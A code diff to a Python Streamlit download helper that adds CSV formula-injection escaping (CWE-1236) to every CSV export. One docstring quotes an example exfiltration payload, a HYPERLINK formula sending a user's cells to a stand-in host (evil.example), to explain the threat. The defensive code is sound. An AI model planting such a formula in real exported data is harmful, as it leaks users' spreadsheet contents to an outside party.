@@ -6,6 +6,7 @@ files. Figures themselves are built by ``flamino_core.figures`` (pure Plotly, no
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import re
@@ -72,19 +73,63 @@ def show_figure(fig, key: str, file_stem: str, on_select: Callable[[], None] | N
     return row
 
 
+# --- CSV cells a spreadsheet would run (CWE-1236) ----------------------------------------------------
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
+
+
+def formula_safe(cell: object) -> object:
+    """A text cell that a spreadsheet would take for a formula (it starts with ``= + - @``, a tab
+    or a carriage return, as OWASP lists) with a ``'`` put in front, which spreadsheets show as
+    text and hide; numbers (``-1.5``) and everything else unchanged. Record ids, mutants, headers
+    and table cells come from visitors: ``=HYPERLINK("https://evil.example/?"&A1,"x")`` would
+    otherwise send a user's other cells away when the download is opened."""
+    if not isinstance(cell, str):
+        return cell
+    if "\r" in cell:  # CSV writers quote a cell with a line feed, not one with a bare CR (a row break)
+        cell = cell.replace("\r\n", "\n").replace("\r", "\n")
+    if not cell.startswith(_FORMULA_STARTS):
+        return cell
+    if cell[0] in "+-":
+        try:
+            float(cell)
+            return cell
+        except ValueError:
+            pass
+    return "'" + cell
+
+
+def formula_safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
+    """``frame`` with ``formula_safe`` applied to its text columns (and column names)."""
+    frame = frame.rename(columns=lambda c: formula_safe(c) if isinstance(c, str) else c)
+    text = [c for c, dtype in frame.dtypes.items() if dtype == object or pd.api.types.is_string_dtype(dtype)]
+    if text:
+        frame = frame.copy()
+        for column in text:
+            frame[column] = frame[column].map(formula_safe)
+    return frame
+
+
+def formula_safe_csv(text: str) -> str:
+    """CSV text with ``formula_safe`` applied to every cell (for CSVs built as text)."""
+    rows = csv.reader(io.StringIO(text, newline=""))
+    out = io.StringIO()
+    csv.writer(out, lineterminator="\n").writerows([formula_safe(cell) for cell in row] for row in rows)
+    return out.getvalue()
+
+
 def csv_button(
     label: str, make_frame: Callable[[], pd.DataFrame], file_name: str, key: str, na_rep: str = "",
     help: str | None = None,
 ) -> None:
-    """A download of the table ``make_frame()`` builds (only when clicked) as CSV.
+    """A download of the table ``make_frame()`` builds (only when clicked) as CSV, formula-safe.
 
     ``na_rep``: how missing values are written (``NaN`` for contacts that were not predicted:
     an empty cell would read as a value lost on the way).
     """
-    _download(
-        label, lambda: make_frame().to_csv(index=False, na_rep=na_rep).encode("utf-8"), file_name, "text/csv", key,
-        help=help,
-    )
+    _button(
+        label, lambda: formula_safe_frame(make_frame()).to_csv(index=False, na_rep=na_rep).encode("utf-8"),
+        file_name, "text/csv", key, help=help,
+    )  # fmt: skip
 
 
 def text_button(label: str, make_text: Callable[[], str], file_name: str, mime: str, key: str) -> None:
@@ -114,6 +159,24 @@ def file_button(label: str, build: Callable[[], bytes | str], file_name: str, ke
 
 def _download(label: str, data: Callable[[], bytes | str], file_name: str, mime: str, key: str,
               help: str | None = None) -> None:
+    if mime == "text/csv":
+        data = _csv_made_safe(data)
+    _button(label, data, file_name, mime, key, help)
+
+
+def _csv_made_safe(data: Callable[[], bytes | str]) -> Callable[[], bytes]:
+    """Every CSV download goes through ``formula_safe``: a frame's text columns in ``csv_button``
+    (fast: numbers untouched), other CSVs built as text here."""
+    def build() -> bytes:
+        made = data()
+        text = made.decode("utf-8") if isinstance(made, bytes) else made
+        return formula_safe_csv(text).encode("utf-8")
+
+    return build
+
+
+def _button(label: str, data: Callable[[], bytes | str], file_name: str, mime: str, key: str,
+            help: str | None = None) -> None:
     # on_click="ignore": a download does not rerun the page (which would recompute its figures).
     st.download_button(
         label, data=data, file_name=file_name, mime=mime, key=key, on_click="ignore", icon=":material/download:",
